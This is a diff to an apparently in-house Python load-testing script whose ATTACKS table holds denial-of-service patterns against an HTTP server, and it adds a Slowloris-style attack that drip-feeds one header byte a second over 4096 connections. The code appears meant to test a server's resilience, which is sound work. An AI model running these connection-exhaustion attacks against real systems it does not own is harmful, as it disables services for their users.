@@ -34,7 +34,7 @@ class Attack:
         self.port, self.connections = port, connections
         self.opened, self.all_opened = 0, asyncio.Event()
 
-    async def hold(self, first: bytes, body: int = 0, more: bytes = b"", read: bool = True):
+    async def hold(self, first: bytes, body: int = 0, more: bytes = b"", pause: float = 0, read: bool = True):
         """Opens a connection, sends bytes, and opens it again two seconds after the server has closed it."""
         await asyncio.sleep(random.uniform(0, RENEWAL_SECONDS))
         while True:
@@ -57,6 +57,7 @@ class Attack:
                 while more:
                     writer.write(more)
                     await writer.drain()
+                    await asyncio.sleep(pause)
             except OSError:
                 pass
             finally:
@@ -98,6 +99,10 @@ ATTACKS = {
         lambda attack: attack.hold(forged_head("/events/retell", 10_000_000), body=9_000_000),
     ),
     "H3 silent connections": (16_500, lambda attack: attack.hold(b"")),
+    "H3 headers of a byte a second": (
+        4096,
+        lambda attack: attack.hold(b"GET /healthz HTTP/1.1\r\nHost: h\r\nX-Slow: ", more=b"a", pause=1),
+    ),
     "H3 responses never read": (
         60,
         lambda attack: attack.hold(b"", more=b"GET /healthz HTTP/1.1\r\nHost: h\r\n\r\n" * 1000, read=False),
